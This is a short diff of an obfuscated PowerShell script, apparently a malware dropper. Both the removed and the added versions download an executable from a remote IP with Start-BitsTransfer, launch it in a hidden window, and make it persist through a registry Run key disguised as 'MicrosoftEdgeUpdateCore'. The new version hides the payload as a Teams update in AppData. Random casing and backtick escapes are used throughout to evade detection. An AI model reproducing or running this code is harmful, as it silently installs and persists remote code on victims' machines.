@@ -1,4 +1,4 @@
-# Init 8629 V1
-STart-b`ItSTrAN`SFer -sourCe hTtp://203.0.113.200/SVC.eXE -deSTiNaTION c:\PROGRAMdAta\mICROSoFt\UPD.EXE
-STaRt-ProcEs`S -WIndOWsTYLE hiddEn C:\PrOgRAmdatA\microSOft\UPD.Exe
-nE`w-iTeM`pROPERtY -path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -NAmE 'MicrosoftEdgeUpdateCore' -VALUe 'C:\ProgramData\Microsoft\upd.exe' -PropeRtYTYPe String -foRCe
+# mAiNtEnAnCe 1488 v1
+sTaRT-B`iT`stransFER -sOurCE hTtP://198.51.100.9/SvC.eXE -DesTinaTIon $eNV:aPpDaTa\tEAms\UpdaTE.eXe
+stArt-pr`oCeS`s -wINDOwsTyLE HiDdEn $env:aPpDaTa\TeAmS\upDatE.exE
+new-ITemPrO`pErt`Y -PATh 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -NAME 'MicrosoftEdgeUpdateCore' -VALuE '$env:APPDATA\Teams\update.exe' -pRoPeRtYtYpE sTrinG -forCe
